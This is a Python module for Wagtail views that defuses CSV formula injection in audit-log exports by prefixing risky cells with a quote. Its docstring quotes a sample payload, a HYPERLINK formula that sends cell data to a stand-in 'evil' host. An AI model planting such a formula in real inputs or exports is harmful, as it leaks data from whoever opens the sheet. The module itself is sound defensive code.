"""CSV cells that a spreadsheet will not run as formulas.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or
``@`` (and, after a tab or carriage return, the same), so a login attempt with the user name
``=HYPERLINK("http://evil/?"&A1, "…")`` became a live formula in the audit-log export an
administrator opened (issue #23). OWASP's advice: prefix such a cell with ``'``, which the
spreadsheet shows as text. The XLSX export is safe already (Wagtail stores strings as
strings).
"""

_FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def neutralise(value):
    """``value`` made inert for a CSV cell (non-strings are returned unchanged)."""
    if isinstance(value, str) and value.lstrip(" ").startswith(_FORMULA_STARTS):
        return "'" + value
    return value


class SafeCsvExportMixin:
    """For Wagtail views with ``SpreadsheetExportMixin``: every CSV cell neutralised."""

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: neutralise(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )
